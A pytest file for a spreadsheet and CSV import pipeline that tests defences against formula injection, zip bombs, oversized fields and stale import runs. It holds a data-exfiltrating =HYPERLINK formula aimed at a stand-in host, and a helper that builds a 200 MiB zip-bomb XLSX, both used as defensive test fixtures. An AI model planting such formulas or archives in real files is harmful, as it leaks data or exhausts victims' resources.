"""Hostile and careless files: formulas in the reject report, zip bombs, oversized CSV fields,
runs left ``running`` by a killed import. Each is refused or neutralised before it does harm."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from api.bootstrap import bootstrap
from graph_model.errors import ImportFailure
from graph_model.port import WriteContext
from importers.cells import safe_cell
from importers.formats import SpreadsheetReader
from importers.pipeline import ImportOptions, Pipeline
from importers.report import RejectReport
from queries.store.memory import MemoryGraph
from tests.importers.helpers import report_rows

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.memory

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


# -- formulas -----------------------------------------------------------------------------------
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("plain - text") == "plain - text"
    assert safe_cell(-1.5) == -1.5  # a number is not text


def test_the_reject_report_escapes_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    with RejectReport(path) as report:
        report.add(3, "rejected", "-no name", FORMULA)
        report.add(4, "rejected", "no siren", {"name": FORMULA})
    rows = report_rows(path)
    assert rows[0]["raw"] == "'" + FORMULA
    assert rows[0]["reason"] == "'-no name"
    assert rows[1]["raw"].startswith("{")  # JSON text: not a formula, left as it is


# -- files too big to read --------------------------------------------------------------------
def _nothing_written(graph: MemoryGraph) -> None:
    assert graph.import_runs(10) == []
    assert list(graph.name_index()) == []


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"
_OOX = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{_PKG}/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_OOX}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_OOX}.worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_OOX}.sharedStrings+xml"/>'
    "</Types>",
    "_rels/.rels": f'<Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>",
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>'
    '<sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>",
    "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_MAIN}"><sheetData>'
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>'
    "</sheetData></worksheet>",
}


def _bomb(path: Path, megabytes: int) -> None:
    """A workbook openpyxl reads, whose shared strings hold one string of ``megabytes`` MiB of
    one letter, deflated at level 9 from a generator: a small file, never whole in memory."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in _PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream:
            stream.write(f'<sst xmlns="{_MAIN}"><si><t>Structure</t></si>'.encode())
            stream.write(b"<si><t>Commune</t></si><si><t>")
            block = b"A" * (1 << 20)
            for _ in range(megabytes):
                stream.write(block)
            stream.write(b"</t></si><si><t>Lyon</t></si></sst>")


def test_a_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    _bomb(path, 200)
    assert path.stat().st_size < 2 * 1024 * 1024
    graph = MemoryGraph()
    with pytest.raises(ImportFailure, match=r"zip bomb.*MAILLAGE_IMPORT_MAX_ZIP_RATIO"):
        Pipeline(graph, SpreadsheetReader(path), ImportOptions()).run()
    _nothing_written(graph)


def test_a_zip_bomb_leaves_memory_bounded(tmp_path: Path) -> None:
    """In a fresh process (the peak RSS of this one says nothing): refusing the bomb keeps the
    process's peak memory to what the interpreter and the libraries need."""
    path = tmp_path / "bomb.xlsx"
    _bomb(path, 200)
    script = (
        "import resource, sys\n"
        "from graph_model.errors import ImportFailure\n"
        "from importers.formats import SpreadsheetReader\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "try:\n"
        f"    SpreadsheetReader({str(path)!r}).prepare()\n"
        "except ImportFailure:\n"
        "    pass\n"
        "else:\n"
        "    sys.exit('not refused')\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        check=False,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    growth_kib = int(done.stdout.strip())
    assert growth_kib < 200 * 1024


def test_the_archive_limits_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "bomb.xlsx"
    _bomb(path, 3)
    monkeypatch.setenv("MAILLAGE_IMPORT_MAX_UNZIPPED_BYTES", str(2 * 1024 * 1024))
    with pytest.raises(
        ImportFailure, match=r"inflate to 3 MiB.*MAILLAGE_IMPORT_MAX_UNZIPPED_BYTES"
    ):
        SpreadsheetReader(path).prepare()


def _sheet(path: Path, rows: list[list[object]]) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Structure", "Commune", "Description"])
    for row in rows:
        sheet.append(row)
    workbook.save(path)


def test_a_long_xlsx_cell_or_too_many_rows_refuse_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "long.xlsx"
    _sheet(path, [["Épicerie", "Viriat", "court"], ["Recyclerie", "Lyon", "x" * 5000]])
    monkeypatch.setenv("MAILLAGE_IMPORT_MAX_CELL_CHARS", "4096")
    graph = MemoryGraph()
    with pytest.raises(ImportFailure, match=r"line 3, column 3.*MAILLAGE_IMPORT_MAX_CELL_CHARS"):
        Pipeline(graph, SpreadsheetReader(path), ImportOptions()).run()
    _nothing_written(graph)
    monkeypatch.setenv("MAILLAGE_IMPORT_MAX_CELL_CHARS", "8192")
    monkeypatch.setenv("MAILLAGE_IMPORT_MAX_SHEET_ROWS", "2")
    with pytest.raises(ImportFailure, match=r"more than 2 rows.*MAILLAGE_IMPORT_MAX_SHEET_ROWS"):
        Pipeline(graph, SpreadsheetReader(path), ImportOptions()).run()
    _nothing_written(graph)
    monkeypatch.setenv("MAILLAGE_IMPORT_MAX_SHEET_ROWS", "3")
    SpreadsheetReader(path).prepare()  # raised limits: read


def test_a_csv_field_over_the_limit_refuses_the_file_and_records_nothing(tmp_path: Path) -> None:
    """Python's csv stops at a field over its limit: the first read finds it, names the line and
    the limit, and nothing is written — not even a failed run."""
    path = tmp_path / "long.csv"
    with path.open("w", encoding="utf-8") as stream:
        stream.write("Structure;Commune;Description\n")
        stream.write("Épicerie;Viriat;courte\n")
        stream.write("Recyclerie;Lyon;" + "x" * (17 * 1024 * 1024) + "\n")
    graph = MemoryGraph()
    with pytest.raises(ImportFailure, match="line 3: a field is longer than 1048576 characters"):
        Pipeline(graph, SpreadsheetReader(path), ImportOptions()).run()
    _nothing_written(graph)


# -- runs left running by a killed import ---------------------------------------------------
def _dead_pid() -> int:
    """The pid of a process that has ended (reaped: no process has it now)."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def _left_running(graph: MemoryGraph) -> None:
    now = datetime.now(UTC)
    here = socket.gethostname()
    runs: dict[str, dict[str, Any]] = {
        "run-dead-here": {"started_at": now, "pid": str(_dead_pid()), "host": here},
        "run-alive-here": {"started_at": now, "pid": os.getppid(), "host": here},
        "run-elsewhere-recent": {"started_at": now - timedelta(hours=1), "pid": 1, "host": "b"},
        "run-elsewhere-old": {"started_at": now - timedelta(days=3), "pid": 1, "host": "b"},
        "run-before-pids": {"started_at": now - timedelta(days=3)},
    }
    for run_id, props in runs.items():
        graph.save_import_run(run_id, {**props, "status": "running"}, WriteContext())


_GONE = {"run-dead-here", "run-elsewhere-old", "run-before-pids"}


def _statuses(graph: MemoryGraph) -> dict[str, str]:
    return {r.id: str(r.props["status"]) for r in graph.import_runs(20)}


def test_the_next_import_marks_runs_whose_import_is_gone(fixtures: Path) -> None:
    graph = MemoryGraph()
    _left_running(graph)
    summary = Pipeline(
        graph, SpreadsheetReader(fixtures / "partners_utf8_bom.csv"), ImportOptions()
    ).run()
    statuses = _statuses(graph)
    assert {r for r, s in statuses.items() if s == "interrupted"} == _GONE
    assert statuses["run-alive-here"] == statuses["run-elsewhere-recent"] == "running"
    assert statuses[str(summary.run_id)] == "finished"
    mine = next(r for r in graph.import_runs(20) if r.id == summary.run_id).props
    assert (mine["pid"], mine["host"]) == (str(os.getpid()), socket.gethostname())
    interrupted = next(r for r in graph.import_runs(20) if r.id == "run-dead-here").props
    assert isinstance(interrupted["interrupted_at"], datetime)


def test_serve_start_marks_runs_whose_import_is_gone() -> None:
    graph = MemoryGraph()
    _left_running(graph)
    report = bootstrap(graph, movement=False)
    assert set(report.interrupted) == _GONE
    assert {r for r, s in _statuses(graph).items() if s == "interrupted"} == _GONE
    assert bootstrap(graph, movement=False).interrupted == ()  # once


def test_a_refused_file_does_not_touch_the_runs(tmp_path: Path) -> None:
    """The file is read before anything: a refused one leaves even stale runs as they were."""
    graph = MemoryGraph()
    _left_running(graph)
    path = tmp_path / "vide.csv"
    path.write_text("", encoding="utf-8")
    with pytest.raises(ImportFailure):
        Pipeline(graph, SpreadsheetReader(path), ImportOptions()).run()
    assert set(_statuses(graph).values()) == {"running"}
